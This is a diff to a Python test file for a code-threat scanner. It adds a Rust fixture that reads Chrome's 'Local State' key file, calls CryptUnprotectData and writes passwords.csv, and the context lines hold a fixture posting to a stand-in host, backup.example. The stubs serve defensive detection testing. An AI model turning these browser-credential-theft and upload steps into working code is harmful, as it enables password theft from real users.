@@ -149,6 +149,20 @@ def test_a_program_naming_credential_stores_with_no_way_out_is_clean(tmp_path: P
     assert _scan_dir(tmp_path / "b", {"src/lib.rs": library}).verdict == "suspicious"
     sending = backup + 'fn up() { let _ = ureq::post("https://backup.example/up"); }\n'
     assert _scan_dir(tmp_path / "c", {"src/main.rs": sending}).verdict != "clean"
+    # a passwords exporter unlocks the browser's key with the system's API, and writes a
+    # local file
+    exporter = (
+        "use windows_sys::Win32::Security::Cryptography::CryptUnprotectData;\n"
+        'fn main() { let _ = std::fs::read(r"Google\\Chrome\\User Data\\Local State"); '
+        "let _ = unsafe { CryptUnprotectData(std::ptr::null_mut(), std::ptr::null_mut(), "
+        "std::ptr::null_mut(), std::ptr::null_mut(), std::ptr::null_mut(), 0, "
+        'std::ptr::null_mut()) }; let _ = std::fs::write("passwords.csv", b""); }\n'
+    )
+    exported = _scan_dir(tmp_path / "d", {"src/main.rs": exporter})
+    assert {"threat-credential-api", "threat-credential-store"} <= {
+        e.rule for e in exported.findings
+    }
+    assert exported.verdict == "clean"
 
 
 def test_test_items_inside_library_files_count_as_tests(tmp_path: Path) -> None:
